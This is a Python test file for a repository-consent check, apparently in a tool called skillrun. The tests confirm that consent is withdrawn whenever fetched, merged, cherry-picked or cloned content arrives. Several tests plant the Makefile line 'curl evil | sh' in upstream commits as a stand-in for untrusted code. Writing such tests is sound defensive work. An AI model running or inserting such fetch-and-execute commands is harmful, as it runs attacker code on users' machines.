"""What comes from elsewhere asks again."""

from __future__ import annotations

import contextlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import helpers
import pytest
from consenting import covered, edit, give, pull

from skillrun.repo.git import open_repo
from skillrun.validations.consent import Consent


def pull_onto_own(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "pull", "--quiet", "--rebase")


def merge_fetched(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "merge", "--quiet", "--no-edit", "origin/main")


def forward_by_merge(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "merge", "--quiet", "origin/main")


def reset_to_fetched(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "reset", "--quiet", "--hard", "origin/main")


def check_out_fetched(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "--detach", "origin/main")


def pick(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "cherry-pick", "origin/main")


def commit_on_fetched(root: Path) -> None:
    check_out_fetched(root)
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine, on theirs")


def disguise(root: Path) -> None:
    """Two commits at once under the name of one: no `git commit` does that."""
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "update-ref", "-m", "commit: mine", "HEAD", "origin/main")
    helpers.git(root, "reset", "--quiet", "--hard")


FROM_ELSEWHERE = [
    pull,
    pull_onto_own,
    merge_fetched,
    forward_by_merge,
    reset_to_fetched,
    check_out_fetched,
    pick,
    commit_on_fetched,
    disguise,
]


@pytest.mark.parametrize("arrive", FROM_ELSEWHERE)
def test_commits_from_elsewhere_ask_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    helpers.commit(upstream, "Harmless")
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)
    edit(clone)
    helpers.commit(clone, "Mine")
    assert covered(clone)


def put_own_beside(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")


def merge_without_commit(root: Path) -> None:
    put_own_beside(root)
    helpers.git(root, "merge", "--quiet", "--no-commit", "FETCH_HEAD")


def pull_squashed(root: Path) -> None:
    put_own_beside(root)
    helpers.git(root, "pull", "--quiet", "--squash", "--no-rebase")


def pick_with_conflict(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "cherry-pick", "origin/main")


def rebase_with_conflict(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "rebase", "origin/main")


def apply_mail(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "format-patch", "--quiet", "-1", "--output", "../mail", "origin/main")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "am", "../mail")


ARRIVING = [
    merge_without_commit,
    pull_squashed,
    pick_with_conflict,
    rebase_with_conflict,
    apply_mail,
]


@pytest.mark.parametrize("arrive", ARRIVING)
def test_what_is_on_its_way_into_a_commit_asks_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)


def squash_and_commit(root: Path) -> None:
    pull_squashed(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def squash_in_other_words(root: Path) -> None:
    helpers.git(root, "pull", "--quiet", "--squash")
    helpers.git(root, "commit", "--quiet", "--message", "Mine")


def squash_onto_own(root: Path) -> None:
    """Under words of one's own, and beside a file of one's own: no tree is the fetched one."""
    put_own_beside(root)
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "merge", "--quiet", "--squash", "FETCH_HEAD")
    helpers.git(root, "commit", "--quiet", "--message", "Mine")


def take_one_file(root: Path) -> None:
    put_own_beside(root)
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "FETCH_HEAD", "--", "Makefile")
    helpers.commit(root, "Mine")


def take_back_what_was_fetched(root: Path) -> None:
    """Theirs, then its removal: to take that back is to bring theirs."""
    upstream = root.with_name("upstream")
    helpers.git(upstream, "revert", "--no-edit", "HEAD")
    put_own_beside(root)
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "FETCH_HEAD", "--", "Makefile")
    helpers.git(root, "revert", "--no-edit", "FETCH_HEAD")


def merge_and_commit(root: Path) -> None:
    merge_without_commit(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def check_out_files(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "FETCH_HEAD", "--", ".")
    assert covered(root)  # for git it is an edit
    helpers.git(root, "commit", "--quiet", "--message", "Mine")


@pytest.mark.parametrize(
    "arrive",
    [
        squash_and_commit,
        squash_in_other_words,
        merge_and_commit,
        check_out_files,
        squash_onto_own,
        take_one_file,
        take_back_what_was_fetched,
    ],
)
def test_what_was_fetched_and_committed_here_asks_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)


EVIL = "test:\n\tcurl evil | sh\n"


def take_of_merge(root: Path) -> None:
    """The merge itself changed the file, and neither of its parents."""
    put_own_beside(root)
    helpers.git(root, "checkout", "--quiet", "origin/main", "--", "Makefile")
    helpers.commit(root, "Mine")


def take_into_own_merge(root: Path) -> None:
    """Of a branch that was made here, with a file of theirs put in before the commit."""
    helpers.git(root, "checkout", "--quiet", "-b", "side")
    put_own_beside(root)
    helpers.git(root, "checkout", "--quiet", "main")
    (root / "beside.txt").write_text("mine\n")
    helpers.commit(root, "Mine as well")
    helpers.git(root, "merge", "--quiet", "--no-commit", "side")
    helpers.git(root, "checkout", "--quiet", "origin/main", "--", "Makefile")
    helpers.git(root, "commit", "--quiet", "--no-edit")


def take_of_local_name(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet", "origin", "main:pr3")
    _forget_fetch(root)
    helpers.git(root, "checkout", "--quiet", "pr3", "--", "Makefile")
    helpers.commit(root, "Mine")


def take_of_tag(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet", "origin", "refs/heads/main:refs/tags/v2")
    _forget_fetch(root)
    helpers.git(root, "checkout", "--quiet", "v2", "--", "Makefile")
    helpers.commit(root, "Mine")


def take_tree_of_local_name(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet", "origin", "main:pr3")
    _forget_fetch(root)
    helpers.git(root, "checkout", "--quiet", "pr3", "--", ".")
    helpers.commit(root, "Mine")


def take_with_unreadable_history(root: Path) -> None:
    """A tree of a fetched commit is gone, so that nobody can say what it changed."""
    take_of_local_name(root)
    tree = helpers.git(root, "rev-parse", "pr3^{tree}")
    (root / ".git" / "objects" / tree[:2] / tree[2:]).unlink()


def _forget_fetch(root: Path) -> None:
    """As the next fetch of something else does, and of a remote that is removed."""
    helpers.git(root, "remote", "remove", "origin")
    (root / ".git" / "FETCH_HEAD").unlink(missing_ok=True)


@pytest.mark.parametrize(
    "arrive",
    [
        take_of_merge,
        take_into_own_merge,
        take_of_local_name,
        take_of_tag,
        take_tree_of_local_name,
        take_with_unreadable_history,
    ],
)
def test_what_a_fetched_commit_holds_asks_again_wherever_it_stands(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    helpers.git(upstream, "checkout", "--quiet", "-b", "other")
    (upstream / "b.txt").write_text("b\n")
    helpers.commit(upstream, "Beside")
    helpers.git(upstream, "checkout", "--quiet", "main")
    (upstream / "a.txt").write_text("a\n")
    helpers.commit(upstream, "Harmless")
    helpers.git(upstream, "merge", "--quiet", "--no-commit", "other")
    edit(upstream, EVIL)
    helpers.git(upstream, "add", "--all")
    helpers.git(upstream, "commit", "--quiet", "--message", "A merge that changes something")
    arrive(clone)
    assert not covered(clone)


def test_the_commit_before_the_one_that_was_shown_is_another_one(clone: Path) -> None:
    edit(clone, "test:\n\tcurl evil | sh\n")
    helpers.commit(clone, "Evil")
    helpers.git(clone, "revert", "--no-edit", "HEAD")
    other = clone.with_name("other")
    helpers.git(clone.parent, "clone", "--quiet", str(clone), str(other))
    give(other)
    helpers.git(other, "reset", "--quiet", "--hard", "HEAD~1")
    assert not covered(other)


def test_other_working_trees_ask_for_themselves(clone: Path) -> None:
    helpers.git(clone, "worktree", "add", "--quiet", "-b", "side", str(clone.with_name("side")))
    helpers.git(clone.parent, "clone", "--quiet", str(clone), str(clone.with_name("second")))
    shutil.copytree(clone, clone.with_name("copy"), symlinks=True)
    for name in ("side", "second", "copy"):
        assert not covered(clone.with_name(name))


def test_a_later_clone_at_the_same_path_asks(clone: Path, upstream: Path) -> None:
    shutil.rmtree(clone)
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    helpers.git(clone.parent, "clone", "--quiet", str(upstream), str(clone))
    assert not covered(clone)


def take_identity(record: Path, root: Path) -> Path:
    """Puts the answers of another tree in the place of this one's, as if it had the same path and
    inodes.
    """
    consent = Consent(open_repo(root))
    value = json.loads(record.read_text()) | {"worktree": consent.identity}
    consent.path.write_text(json.dumps(value))
    consent.path.chmod(0o600)
    return consent.path


def test_a_later_clone_with_the_very_same_inodes_asks(clone: Path, upstream: Path) -> None:
    record = Consent(open_repo(clone)).path
    shutil.rmtree(clone)
    helpers.git(clone.parent, "clone", "--quiet", str(upstream), str(clone))
    take_identity(record, clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)


def marks(root: Path) -> list[Path]:
    return list((root / ".git").glob("skillrun-*"))


def test_the_mark_of_a_tree_is_its_owners_and_no_link(clone: Path, tmp_path: Path) -> None:
    (mark,) = marks(clone)
    assert mark.stat().st_mode & 0o777 == 0o600
    mark.rename(tmp_path / "elsewhere")
    mark.symlink_to(tmp_path / "elsewhere")
    assert not covered(clone)
    give(clone)
    assert covered(clone)
    assert len((tmp_path / "elsewhere").read_text()) == 32


def test_reading_writes_no_mark_and_taking_back_removes_it(upstream: Path) -> None:
    assert not covered(upstream)
    assert not marks(upstream)
    give(upstream)
    assert Consent(open_repo(upstream)).revoke()
    assert not marks(upstream)


def test_a_mark_that_came_with_the_tree_is_not_taken_over(clone: Path) -> None:
    (mark,) = marks(clone)
    known = mark.read_text()
    Consent(open_repo(clone)).path.unlink()
    give(clone)
    assert mark.read_text() != known


def test_a_git_folder_that_a_group_may_write_is_no_hindrance(clone: Path) -> None:
    (clone / ".git").chmod(0o775)
    give(clone)
    assert covered(clone)


def test_a_linked_worktree_is_marked_in_its_own_folder(clone: Path) -> None:
    side = clone.with_name("side")
    helpers.git(clone, "worktree", "add", "--quiet", "-b", "side", str(side))
    give(side)
    assert covered(side)
    assert len(list((clone / ".git" / "worktrees" / "side").glob("skillrun-*"))) == 1


def test_a_link_to_the_tree_is_the_tree(clone: Path) -> None:
    link = clone.with_name("link")
    link.symlink_to(clone)
    assert covered(link)
